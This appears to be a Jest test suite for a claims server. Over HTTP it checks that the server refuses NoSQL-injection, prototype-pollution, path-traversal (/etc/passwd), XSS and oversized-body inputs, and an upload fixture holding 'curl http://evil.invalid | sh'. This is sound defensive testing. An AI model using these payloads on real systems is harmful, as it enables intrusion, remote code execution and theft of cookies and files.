/**
 * Hostile input, black box: the local server started as its own process (exactly `npm run serve`),
 * spoken to over HTTP only, as an integrator or an attacker would. Covers issue 9's input items:
 * draft keys and nesting (6), uploads checked by their bytes (8), control characters in free text (9),
 * malformed URLs and static containment (10, 12), numbers escaping sealing (11), 12 MB bodies (12),
 * `__proto__` in recordSubscriptions (12), the dev login bound to loopback and dev pages for staff (13).
 * Every refusal is a 4xx with a stable code and a Chinese message; nothing is left behind.
 */
import { readdirSync, mkdirSync, writeFileSync, statSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import path from 'node:path';
import sharp from 'sharp';
import { checklistOf } from '../../src/core/contracts/claim';
import { startChildServer, type ChildServer } from '../support/childServer';
import { bankAccount, idNumber, jpegBytes, recentDate, validForm } from '../support/fixtures';
import { tempDir } from '../support/ports';
import { storedText } from '../support/testStore';

jest.setTimeout(120_000);

interface Envelope {
  ok: boolean;
  data?: unknown;
  error?: { code: string; message: string; issues?: Array<{ path: string; message: string }> };
}

interface Reply {
  status: number;
  body: Envelope;
}

const chinese = /[\u4e00-\u9fff]/;
let serial = 0;
const requestId = (label: string): string =>
  `hostile-${label}-${(serial += 1).toString().padStart(4, '0')}`.replace(/[^A-Za-z0-9_-]/g, '-').slice(0, 64);

async function login(base: string, user: string): Promise<string> {
  const response = await fetch(`${base}/api/dev/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ user }),
  });
  const body = (await response.json()) as Envelope;
  if (!body.ok) throw new Error(`login ${user}: ${JSON.stringify(body)}`);
  return (body.data as { token: string }).token;
}

async function call(
  base: string,
  token: string | null,
  fn: string,
  action: string,
  payload: unknown,
  id = requestId(action),
): Promise<Reply> {
  const response = await fetch(`${base}/api/fn/${fn}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
    body: typeof payload === 'string' ? payload : JSON.stringify({ action, payload, requestId: id }),
  });
  return { status: response.status, body: (await response.json()) as Envelope };
}

async function upload(
  base: string,
  token: string,
  bytes: Uint8Array,
  contentType: string,
  name = 'photo.jpg',
): Promise<Reply> {
  const response = await fetch(`${base}/api/files?name=${encodeURIComponent(name)}`, {
    method: 'POST',
    headers: { 'content-type': contentType, authorization: `Bearer ${token}` },
    body: new Uint8Array(bytes),
  });
  return { status: response.status, body: (await response.json()) as Envelope };
}

/** A raw GET with the path exactly as written (fetch would normalise dots and escapes). */
function rawGet(base: string, rawPath: string): Promise<{ status: number; body: string }> {
  const url = new URL(base);
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: url.hostname, port: url.port, path: rawPath, method: 'GET' }, (response) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () =>
        resolve({ status: response.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }),
      );
    });
    req.on('error', reject);
    req.end();
  });
}

/** Sends `total` bytes in 64 KB chunks (chunked transfer, no content-length) through Node's own client; resolves with the status or the client's error code. */
function streamedPost(
  base: string,
  rawPath: string,
  total: number,
  headers: Record<string, string>,
): Promise<{ status: number | null; code: string | null }> {
  const url = new URL(base);
  return new Promise((resolve) => {
    let settled = false;
    const done = (result: { status: number | null; code: string | null }): void => {
      if (!settled) {
        settled = true;
        resolve(result);
      }
    };
    const req = httpRequest(
      { host: url.hostname, port: url.port, path: rawPath, method: 'POST', headers },
      (response) => {
        response.resume();
        response.on('end', () => done({ status: response.statusCode ?? null, code: null }));
      },
    );
    req.on('error', (error: NodeJS.ErrnoException) => done({ status: null, code: error.code ?? error.message }));
    const chunk = Buffer.alloc(64 * 1024, 0x61);
    let sent = 0;
    const pump = (): void => {
      while (sent < total) {
        sent += chunk.length;
        if (!req.write(chunk)) {
          req.once('drain', pump);
          return;
        }
      }
      req.end();
    };
    pump();
  });
}

function countFiles(dir: string): number {
  let count = 0;
  const walk = (current: string): void => {
    for (const name of readdirSync(current)) {
      const full = path.join(current, name);
      if (statSync(full).isDirectory()) walk(full);
      else count += 1;
    }
  };
  try {
    walk(dir);
  } catch {
    return 0;
  }
  return count;
}

function expectRefused(reply: Reply, status: number, code: string): void {
  expect({ status: reply.status, code: reply.body.error?.code }).toEqual({ status, code });
  expect(reply.body.ok).toBe(false);
  expect(reply.body.error?.message).toMatch(chinese);
}

describe('hostile input over HTTP (server on loopback, default settings)', () => {
  let dataDir: string;
  let siteDir: string;
  let server: ChildServer;
  let zhang: string;
  let li: string;
  let reviewer: string;

  const myDraftCount = async (): Promise<number> =>
    ((await call(server.base, zhang, 'claims', 'listMine', { status: 'all' })).body.data as { total: number }).total;

  beforeAll(async () => {
    const root = tempDir('yb-hostile-');
    dataDir = path.join(root, 'data');
    // A static root and a sibling whose name starts with the root's: a prefix check would serve it.
    siteDir = path.join(root, 'site');
    mkdirSync(siteDir, { recursive: true });
    mkdirSync(`${siteDir}-secret`, { recursive: true });
    writeFileSync(path.join(siteDir, 'index.html'), '<!doctype html><title>H5</title>');
    writeFileSync(path.join(`${siteDir}-secret`, 'key.txt'), 'TOP-SECRET');
    server = await startChildServer(dataDir, { STATIC_DIR: siteDir });
    [zhang, li, reviewer] = await Promise.all([
      login(server.base, 'zhangsan'),
      login(server.base, 'lisi'),
      login(server.base, 'reviewer'),
    ]);
  });

  afterAll(async () => {
    await server.kill();
  });

  it('says at start that the dev login is on, and why (loopback)', () => {
    expect(server.output()).toMatch(/开发登录：已开启（监听本机地址 127\.0\.0\.1/);
  });

  describe('item 6: draft keys, nesting and size', () => {
    const deep = (depth: number): string => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    it.each([
      ['$where', '{"$where":"sleep(5000)"}'],
      ['$gt as a field', '{"hospital":{"$gt":""}}'],
      ['$gt as a value', '{"hospital":{"name":{"$gt":""}}}'],
      ['a dotted key', '{"insured.idNumber":"1"}'],
      ['__proto__', '{"__proto__":{"polluted":true}}'],
      ['constructor', '{"insured":{"constructor":{"prototype":{"polluted":true}}}}'],
      ['1,000 deep', deep(1_000)],
      ['5,000 deep', deep(5_000)],
      ['5,000 deep inside a field', `{"hospital":{"name":${deep(5_000)}}}`],
      ['an array 5,000 deep', `{"lineItems":${'['.repeat(5_000)}${']'.repeat(5_000)}}`],
      [
        '70,000 characters (under the 100 KB body limit, over the draft limit)',
        JSON.stringify({ notes: 'x'.repeat(70_000) }),
      ],
    ])('saveDraft with %s: 400 VALIDATION_FAILED, no draft left behind', async (_name, formJson) => {
      const before = await myDraftCount();
      const body = `{"action":"saveDraft","requestId":"${requestId('draft')}","payload":{"form":${formJson},"materials":{}}}`;
      expect(Buffer.byteLength(body)).toBeLessThan(100 * 1024);
      const reply = await call(server.base, zhang, 'claims', 'saveDraft', body);
      expectRefused(reply, 400, 'VALIDATION_FAILED');
      expect(reply.body.error?.issues?.[0]?.message).toMatch(/^草稿/);
      expect(await myDraftCount()).toBe(before);
    });

    it('a real draft the app would send is still saved, and nothing leaked into the prototype', async () => {
      const reply = await call(server.base, zhang, 'claims', 'saveDraft', {
        form: {
          hospital: { name: '北京协和医院' },
          lineItems: [{ name: '西药费', yuan: '12.5', amountFen: 1250, category: 'A' }],
          draft: { step: 'form', localId: 'lq2x7k3abcdefgh' },
        },
        materials: {},
      });
      expect(reply.status).toBe(200);
      expect(await storedText(dataDir, server.storeEnv)).not.toContain('polluted');
    });
  });

  describe('item 9: control, bidi and zero-width characters in free text', () => {
    const hostileText: Array<[string, string]> = [
      ['NUL', '协和\u0000医院'],
      ['BEL', '协和\u0007医院'],
      ['ESC', '协和\u001b[31m医院'],
      ['U+202E', '协和\u202e院医'],
      ['U+200B', '协\u200b和医院'],
      ['BOM', '\ufeff协和医院'],
      ['a lone surrogate', '协和医院\ud800'],
    ];

    it.each(hostileText)('title with %s: 400 (createDraft)', async (_name, text) => {
      const before = await myDraftCount();
      const reply = await call(server.base, zhang, 'claims', 'createDraft', { title: text });
      expectRefused(reply, 400, 'VALIDATION_FAILED');
      expect(reply.body.error?.issues).toEqual([
        { path: 'title', message: expect.stringMatching(/^报销标题含有看不见的/) },
      ]);
      expect(await myDraftCount()).toBe(before);
    });

    it.each(hostileText)(
      'hospital name, item name and bank name with %s: 400 (saveDraft and submit)',
      async (_name, text) => {
        const before = await myDraftCount();
        for (const form of [
          { hospital: { name: text } },
          { lineItems: [{ name: text }] },
          { payout: { bankName: text } },
        ]) {
          const reply = await call(server.base, zhang, 'claims', 'saveDraft', { form, materials: {} });
          expectRefused(reply, 400, 'VALIDATION_FAILED');
          expect(reply.body.error?.issues?.[0]?.message).toMatch(/(医院名称|费用名称|开户银行)含有看不见的/);
        }
        const valid = validForm({ visit: { visitDate: recentDate(5) } });
        for (const form of [
          { ...valid, hospital: { name: text, level: 3 } },
          { ...valid, lineItems: [{ name: text, amountFen: 100, category: 'A' }] },
          { ...valid, payout: { ...valid.payout, bankName: text } },
        ]) {
          expectRefused(await call(server.base, zhang, 'claims', 'submit', { form }), 400, 'VALIDATION_FAILED');
        }
        expect(await myDraftCount()).toBe(before);
      },
    );

    // A lone surrogate cannot travel in a URL at all (percent-decoding gives U+FFFD): the other six can.
    it.each(hostileText.filter(([name]) => name !== 'a lone surrogate'))(
      'upload name with %s: 400, no file stored',
      async (_name, text) => {
        const before = countFiles(path.join(dataDir, 'files'));
        expectRefused(
          await upload(server.base, zhang, await jpegBytes('名字'), 'image/jpeg', `${text}.jpg`),
          400,
          'VALIDATION_FAILED',
        );
        expect(countFiles(path.join(dataDir, 'files'))).toBe(before);
      },
    );
  });

  describe('item 11: personal fields are never stored in clear', () => {
    it('numbers as phone, account and id number are refused (they would escape sealing)', async () => {
      const before = await myDraftCount();
      const reply = await call(server.base, zhang, 'claims', 'saveDraft', {
        form: { phone: 13611223344, payout: { accountNumber: 6222111122223333 } },
        materials: {},
      });
      expectRefused(reply, 400, 'VALIDATION_FAILED');
      expect(reply.body.error?.issues?.map((issue) => issue.path).sort()).toEqual([
        'form.payout.accountNumber',
        'form.phone',
      ]);
      expect(await myDraftCount()).toBe(before);
      expect(await storedText(dataDir, server.storeEnv)).not.toContain('13611223344');
      expect(await storedText(dataDir, server.storeEnv)).not.toContain('6222111122223333');
    });

    it('strings, and values with * in them, are sealed: get shows masks, the disk holds no digits', async () => {
      const id = idNumber('19750505', '246');
      const saved = await call(server.base, zhang, 'claims', 'saveDraft', {
        form: { phone: '13611223344', payout: { accountNumber: '6222*111122229999' }, insured: { idNumber: id } },
        materials: {},
      });
      expect(saved.status).toBe(200);
      const detail = await call(server.base, zhang, 'claims', 'get', { id: (saved.body.data as { id: string }).id });
      const form = (
        detail.body.data as {
          form: { phone: string; payout: { accountNumber: string }; insured: { idNumber: string } };
        }
      ).form;
      expect(form.phone).toBe('136****3344');
      expect(form.insured.idNumber).toBe(`${id.slice(0, 3)}${'*'.repeat(11)}${id.slice(-4)}`);
      expect(form.payout.accountNumber).not.toContain('11112222');
      const disk = await storedText(dataDir, server.storeEnv);
      // What is read is the store itself: the draft is there (its id), its personal fields are not.
      expect(disk).toContain((saved.body.data as { id: string }).id);
      for (const secret of ['13611223344', '111122229999', id, id.slice(3, 14)]) expect(disk).not.toContain(secret);
    });
  });

  describe('item 8: uploads are what their bytes say', () => {
    const zip = Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), Buffer.alloc(200, 1)]);
    it.each([
      ['a shell script as image/jpeg', Buffer.from('#!/bin/sh\ncurl http://evil.invalid | sh\n'), 'image/jpeg'],
      ['HTML as image/png', Buffer.from('<!doctype html><script>alert(document.cookie)</script>'), 'image/png'],
      ['a ZIP as image/webp', zip, 'image/webp'],
      [
        'a shell script behind a JPEG magic number',
        Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('\n#!/bin/sh\n')]),
        'image/jpeg',
      ],
      ['an SVG as image/png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'image/png'],
      ['a PDF (no upload of the app expects one)', Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\n'), 'application/pdf'],
    ])('%s: 415 UNSUPPORTED_FILE_TYPE, nothing stored', async (_name, bytes, type) => {
      const before = countFiles(path.join(dataDir, 'files'));
      expectRefused(await upload(server.base, zhang, new Uint8Array(bytes), type), 415, 'UNSUPPORTED_FILE_TYPE');
      expect(countFiles(path.join(dataDir, 'files'))).toBe(before);
    });

    it('the first half of a photo (a JPEG by its headers, its scan cut): 422 INCOMPLETE_PHOTO, nothing stored', async () => {
      const photo = await sharp({
        create: {
          width: 600,
          height: 400,
          channels: 3,
          background: '#fff',
          noise: { type: 'gaussian', mean: 128, sigma: 40 },
        },
      })
        .jpeg()
        .toBuffer();
      const before = countFiles(path.join(dataDir, 'files'));
      const half = new Uint8Array(photo.subarray(0, Math.floor(photo.length / 2)));
      expectRefused(await upload(server.base, zhang, half, 'image/jpeg'), 422, 'INCOMPLETE_PHOTO');
      expect(countFiles(path.join(dataDir, 'files'))).toBe(before);
    });

    it('an empty upload: 400 EMPTY_FILE', async () => {
      expectRefused(await upload(server.base, zhang, new Uint8Array(0), 'image/jpeg'), 400, 'EMPTY_FILE');
    });

    it('a file name that is not valid percent-encoding: 400, not stored as "\ufffd%A" for reviewers to read (black-box probe)', async () => {
      const response = await fetch(`${server.base}/api/files?name=%E0%A4%A`, {
        method: 'POST',
        headers: { 'content-type': 'image/jpeg', authorization: `Bearer ${zhang}` },
        body: new Uint8Array(await jpegBytes('名字')),
      });
      const reply = { status: response.status, body: (await response.json()) as Envelope };
      expectRefused(reply, 400, 'VALIDATION_FAILED');
      expect(reply.body.error?.message).toMatch(/文件名/);
    });

    it('the stored type comes from the bytes, not from the client', async () => {
      const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
        .png()
        .toBuffer();
      const asJpeg = await upload(server.base, zhang, new Uint8Array(png), 'image/jpeg', 'x.jpg');
      expect(asJpeg.status).toBe(200);
      expect(asJpeg.body.data).toMatchObject({ contentType: 'image/png', fileID: expect.stringMatching(/\.png$/) });
      const asText = await upload(server.base, zhang, new Uint8Array(await jpegBytes('文本')), 'text/plain', 'x.txt');
      expect(asText.body.data).toMatchObject({ contentType: 'image/jpeg', fileID: expect.stringMatching(/\.jpg$/) });
      const url = (await (
        await fetch(`${server.base}/api/files/url`, {
          method: 'POST',
          headers: { authorization: `Bearer ${zhang}` },
          body: JSON.stringify({ fileID: (asJpeg.body.data as { fileID: string }).fileID }),
        })
      ).json()) as { data: { url: string } };
      expect((await fetch(`${server.base}${url.data.url}`)).headers.get('content-type')).toBe('image/png');
    });
  });

  describe('items 10 and 12: malformed URLs and static containment', () => {
    it.each([['/%zz'], ['/%E0%A4%A'], ['/reviewer/%'], ['/%'], ['/%00'], ['/pages/%E0%A4%A/index'], ['/%ED%A0%80']])(
      'GET %s: 400 BAD_REQUEST',
      async (rawPath) => {
        const reply = await rawGet(server.base, rawPath);
        expect(reply.status).toBe(400);
        expect((JSON.parse(reply.body) as Envelope).error?.code).toBe('BAD_REQUEST');
      },
    );

    it.each([
      ['/..%2fsite-secret/key.txt'],
      ['/%2e%2e/site-secret/key.txt'],
      ['/..%2f..%2f..%2f..%2fetc%2fpasswd'],
      ['/../site-secret/key.txt'],
      ['/%2e%2e%2f%2e%2e%2fdata%2fsecret.key'],
    ])('GET %s: never outside the static root', async (rawPath) => {
      const reply = await rawGet(server.base, rawPath);
      expect(reply.status).toBeLessThan(500);
      expect(reply.body).not.toContain('TOP-SECRET');
      expect(reply.body).not.toContain('root:');
    });

    it('the static root itself is still served', async () => {
      const reply = await rawGet(server.base, '/pages/index/index');
      expect(reply).toEqual({ status: 200, body: '<!doctype html><title>H5</title>' });
    });

    it('malformed escapes in API paths and queries are 4xx too', async () => {
      for (const rawPath of ['/api/%zz', '/api/fn/%E0%A4%A', '/api/files/raw?fileID=%zz&expires=%&sig=%E0'])
        expect((await rawGet(server.base, rawPath)).status).toBeGreaterThanOrEqual(400);
      for (const rawPath of ['/api/%zz', '/api/fn/%E0%A4%A', '/api/files/raw?fileID=%zz&expires=%&sig=%E0'])
        expect((await rawGet(server.base, rawPath)).status).toBeLessThan(500);
    });
  });

  describe('item 12: a 12 MB streamed body is refused with 413, every time', () => {
    const TWELVE_MB = 12 * 1024 * 1024;
    it.each([
      ['/api/fn/claims', 'application/json'],
      ['/api/files?name=big.jpg', 'image/jpeg'],
    ])('%s, 5 times in a row (Node client, chunked)', async (rawPath, type) => {
      const results = [];
      for (let round = 0; round < 5; round += 1)
        results.push(
          await streamedPost(server.base, rawPath, TWELVE_MB, {
            'content-type': type,
            authorization: `Bearer ${zhang}`,
          }),
        );
      expect(results).toEqual(Array.from({ length: 5 }, () => ({ status: 413, code: null })));
    });

    it('fetch with a streamed body, 5 times in a row', async () => {
      for (let round = 0; round < 5; round += 1) {
        let sent = 0;
        const body = new ReadableStream<Uint8Array>({
          pull(controller) {
            if (sent >= TWELVE_MB) return controller.close();
            sent += 256 * 1024;
            controller.enqueue(new Uint8Array(256 * 1024).fill(0x7b));
          },
        });
        const response = await fetch(`${server.base}/api/fn/claims`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${zhang}` },
          body,
          duplex: 'half',
        } as RequestInit);
        expect(response.status).toBe(413);
        expect(((await response.json()) as Envelope).error?.code).toBe('PAYLOAD_TOO_LARGE');
      }
    });

    it('a declared 12 MB body (content-length) too', async () => {
      const response = await fetch(`${server.base}/api/files?name=big.jpg`, {
        method: 'POST',
        headers: { 'content-type': 'image/jpeg', authorization: `Bearer ${zhang}` },
        body: new Uint8Array(TWELVE_MB),
      });
      expect(response.status).toBe(413);
    });

    it('the server still answers afterwards', async () => {
      expect((await fetch(`${server.base}/api/health`)).status).toBe(200);
    });
  });

  describe('item 12: recordSubscriptions takes the three template keys only', () => {
    it.each([
      ['{"__proto__":"accept"}'],
      ['{"__proto__":{"paid":"accept"}}'],
      ['{"constructor":"accept"}'],
      ['{"toString":"accept"}'],
    ])('%s: 400', async (results) => {
      const reply = await call(
        server.base,
        zhang,
        'notifications',
        'recordSubscriptions',
        `{"action":"recordSubscriptions","payload":{"results":${results}}}`,
      );
      expectRefused(reply, 400, 'VALIDATION_FAILED');
    });
  });

  describe('item 13: dev pages need a staff token', () => {
    it('sent-messages: 401 without a token, 403 for a claimant, 200 for a reviewer', async () => {
      const anonymous = await fetch(`${server.base}/api/dev/sent-messages`);
      expect(anonymous.status).toBe(401);
      const claimant = await fetch(`${server.base}/api/dev/sent-messages`, {
        headers: { authorization: `Bearer ${li}` },
      });
      expect(claimant.status).toBe(403);
      expect(((await claimant.json()) as Envelope).error?.message).toMatch(chinese);
      const forged = await fetch(`${server.base}/api/dev/sent-messages`, {
        headers: { authorization: `Bearer ${reviewer.slice(0, -2)}xx` },
      });
      expect(forged.status).toBe(401);
      const staff = await fetch(`${server.base}/api/dev/sent-messages`, {
        headers: { authorization: `Bearer ${reviewer}` },
      });
      expect(staff.status).toBe(200);
      expect(((await staff.json()) as Envelope).ok).toBe(true);
    });
  });

  it('a complete claim still goes through (nothing above broke the happy path); a reviewer reason with control characters is refused', async () => {
    const form = validForm({ visit: { visitDate: recentDate(10) } });
    const materials: Record<string, string[]> = {};
    for (const item of checklistOf(form as never, true).filter((entry) => entry.required)) {
      const stored = await upload(
        server.base,
        zhang,
        new Uint8Array(await jpegBytes(`${item.id} ${requestId('m')}`)),
        'image/jpeg',
        `${item.id}.jpg`,
      );
      materials[item.id] = [(stored.body.data as { fileID: string }).fileID];
    }
    const submitted = await call(server.base, zhang, 'claims', 'submit', { form: { ...form, materials } });
    expect(submitted.body.error).toBeUndefined();
    expect(submitted.body).toMatchObject({ ok: true, data: { status: 'submitted' } });
    expect(await storedText(dataDir, server.storeEnv)).not.toContain(bankAccount);
    const id = (submitted.body.data as { id: string }).id;
    for (const reasonText of ['材料\u0000不全', '材料\u202e不全', '\ufeff材料不全', '材料不全\ud800']) {
      const reply = await call(server.base, reviewer, 'review', 'decide', {
        id,
        expectedStatus: 'submitted',
        expectedVersion: 1,
        action: 'reject',
        reasonCode: 'other',
        reasonText,
      });
      expectRefused(reply, 400, 'VALIDATION_FAILED');
      expect(reply.body.error?.issues?.[0]?.message).toMatch(/^说明含有看不见的/);
    }
    expect((await call(server.base, zhang, 'claims', 'get', { id })).body.data).toMatchObject({ status: 'submitted' });
  });
});

describe('item 13: the dev login is on only where it is meant to be', () => {
  it('HOST=0.0.0.0: off, said so at start; no login, no dev users, no token works', async () => {
    const server = await startChildServer(tempDir('yb-hostile-open-'), { HOST: '0.0.0.0' });
    try {
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(server.output()).toMatch(/开发登录：已关闭（监听的 0\.0\.0\.0 不是本机地址；确需开启请设置 DEV_LOGIN=1）/);
      const loginReply = await fetch(`${server.base}/api/dev/login`, {
        method: 'POST',
        body: JSON.stringify({ user: 'reviewer' }),
      });
      expect(loginReply.status).toBe(403);
      expect(((await loginReply.json()) as Envelope).error?.code).toBe('DEV_LOGIN_DISABLED');
      expect((await fetch(`${server.base}/api/dev/users`)).status).toBe(403);
      expect((await fetch(`${server.base}/api/dev/sent-messages`)).status).toBe(403);
      expect((await call(server.base, 'eyJzdWIiOiJkZXYtb3BlbmlkLXJldmlld2VyIn0.x', 'review', 'queue', {})).status).toBe(
        401,
      );
      expect((await fetch(`${server.base}/api/health`)).status).toBe(200);
    } finally {
      await server.kill();
    }
  });

  it('HOST=0.0.0.0 with DEV_LOGIN=1: on, with a warning at start', async () => {
    const server = await startChildServer(tempDir('yb-hostile-open-'), { HOST: '0.0.0.0', DEV_LOGIN: '1' });
    try {
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(server.output()).toMatch(/开发登录：已开启（DEV_LOGIN=1）。注意：监听的 0\.0\.0\.0 不是本机地址/);
      const token = await login(server.base, 'reviewer');
      expect(
        (await fetch(`${server.base}/api/dev/sent-messages`, { headers: { authorization: `Bearer ${token}` } })).status,
      ).toBe(200);
    } finally {
      await server.kill();
    }
  });

  it('loopback with DEV_LOGIN=0: off', async () => {
    const server = await startChildServer(tempDir('yb-hostile-off-'), { DEV_LOGIN: '0' });
    try {
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(server.output()).toMatch(/开发登录：已关闭（DEV_LOGIN=0）/);
      expect(
        (await fetch(`${server.base}/api/dev/login`, { method: 'POST', body: JSON.stringify({ user: 'zhangsan' }) }))
          .status,
      ).toBe(403);
    } finally {
      await server.kill();
    }
  });
});

describe('uploads a day per account: a client that uploads without end is stopped (UPLOAD_FILES_PER_DAY)', () => {
  it('answers 429 UPLOAD_LIMIT_REACHED with a sentence past the limit; another account still uploads', async () => {
    const dataDir = tempDir('yb-hostile-uploads-');
    const server = await startChildServer(dataDir, { UPLOAD_FILES_PER_DAY: '2' });
    try {
      const zhangsan = await login(server.base, 'zhangsan');
      const lisi = await login(server.base, 'lisi');
      for (const label of ['one', 'two'])
        expect((await upload(server.base, zhangsan, await jpegBytes(label), 'image/jpeg')).status).toBe(200);
      const refused = await upload(server.base, zhangsan, await jpegBytes('three'), 'image/jpeg');
      expect(refused.status).toBe(429);
      expect(refused.body.error?.code).toBe('UPLOAD_LIMIT_REACHED');
      expect(refused.body.error?.message).toMatch(/今天已上传 2 张照片.*请明天再继续/);
      expect((await upload(server.base, lisi, await jpegBytes('four'), 'image/jpeg')).status).toBe(200);
      // The refused photo left no bytes behind.
      const stored = readdirSync(path.join(dataDir, 'files'), { recursive: true, withFileTypes: true }).filter(
        (entry) => entry.isFile(),
      );
      expect(stored).toHaveLength(3);
    } finally {
      await server.kill();
    }
  });

  it('a mistyped limit stops the start with a sentence naming the setting', async () => {
    await expect(startChildServer(tempDir('yb-hostile-uploads-'), { UPLOAD_FILES_PER_DAY: '三百' })).rejects.toThrow(
      /UPLOAD_FILES_PER_DAY 应为 1 到 999999999 之间的整数/,
    );
  });
});
